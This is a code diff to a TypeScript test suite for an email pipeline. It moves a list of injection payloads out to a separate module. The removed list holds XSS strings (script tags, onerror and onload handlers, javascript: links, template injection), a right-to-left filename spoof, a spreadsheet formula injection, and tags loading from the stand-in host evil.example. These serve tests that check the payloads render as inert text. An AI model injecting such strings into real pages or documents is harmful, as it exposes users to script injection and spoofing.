@@ -6,6 +6,7 @@ import { auditTrail } from '../../lib/pipeline/audit.ts';
 import { parsePolicy } from '../../lib/pipeline/policy.ts';
 import { emailWith, PDF } from '../pipeline/rig.ts';
 import { type Desk, HELD, openDesk } from './desk-rig.ts';
+import { PAYLOADS } from './payloads.ts';
 
 type Tree = DefaultTreeAdapterTypes.Node;
 
@@ -25,21 +26,6 @@ const ELEMENTS = new Set(
 const ATTRIBUTES = new Set(
   'lang charset name content rel href class scope value type method action required maxlength selected role'.split(' '),
 );
-
-const PAYLOADS = [
-  '<script>alert(1)</script>',
-  '"><img src=x onerror=alert(1)>',
-  "' onmouseover='alert(1)",
-  '</title><svg onload=alert(1)>',
-  '<a href="javascript:alert(1)">x</a>',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '{{constructor.constructor("alert(1)")()}}',
-  '\u202eexe.fdp<b>',
-  '\u0000<iframe src=//evil.example>',
-  '<style>@import "//evil.example"</style>',
-  '=cmd|calc!A1 <form action=//evil.example>',
-  'http://evil.example/?<base href=//evil.example>',
-];
 
 describe.each(PAYLOADS)('a mail full of %j', (payload) => {
   test('is text on every page', async () => {
